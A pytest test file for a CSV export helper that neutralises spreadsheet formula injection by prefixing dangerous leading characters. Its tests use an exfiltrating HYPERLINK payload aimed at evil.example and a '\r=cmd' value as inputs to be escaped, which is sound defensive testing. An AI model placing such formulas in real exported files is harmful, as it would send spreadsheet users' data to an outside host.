"""The one CSV writer: formulas neutralised, numbers kept, every exporter using it."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core.csvfile import (
    DANGEROUS_PREFIXES,
    csv_lines,
    safe_cell,
    streaming_csv_response,
    writer,
)

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_prefix_is_neutralised(prefix):
    payload = f'{prefix}HYPERLINK("http://evil.example/?"&A1)'
    assert safe_cell(payload) == "'" + payload


def test_the_dangerous_prefixes_are_exactly_those_of_the_spec():
    assert set(DANGEROUS_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "value", [-1, -1.5, Decimal("-2.25"), 0, 42, 3.5, Decimal("12.50")]
)
def test_numbers_stay_numbers_negative_ones_too(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-1+1", "-1", "+61 2 5550 1234", "@handle"])
def test_text_that_looks_like_a_number_or_formula_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "True"),
        ("Diamonds missing", "Diamonds missing"),
        ("a=b", "a=b"),  # only a leading character matters
        (" =1+1", " =1+1"),
    ],
)
def test_other_values(value, written):
    assert safe_cell(value) == written


def test_the_writer_round_trips_through_a_spreadsheet_reader():
    out = io.StringIO()
    writer(out).writerow(["=1+1", -3, "\r=cmd", "plain, with comma"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=1+1",
        "-3",
        "'\r=cmd",
        "plain, with comma",
    ]


def test_streaming_writes_the_header_then_each_row_as_it_comes():
    consumed = []

    def rows():
        for n in range(3):
            consumed.append(n)
            yield [f"=row{n}", n]

    response = streaming_csv_response("x.csv", ["name", "n"], rows())
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Content-Type"].startswith("text/csv")
    chunks = iter(response.streaming_content)
    assert next(chunks) == b"name,n\r\n"
    assert consumed == []  # nothing read before it is needed
    assert next(chunks) == b"'=row0,0\r\n"
    assert consumed == [0]
    assert list(csv_lines(None, [["@x"]])) == ["'@x\r\n"]


def test_no_module_writes_csv_except_through_the_one_writer():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or path.name == "csvfile.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
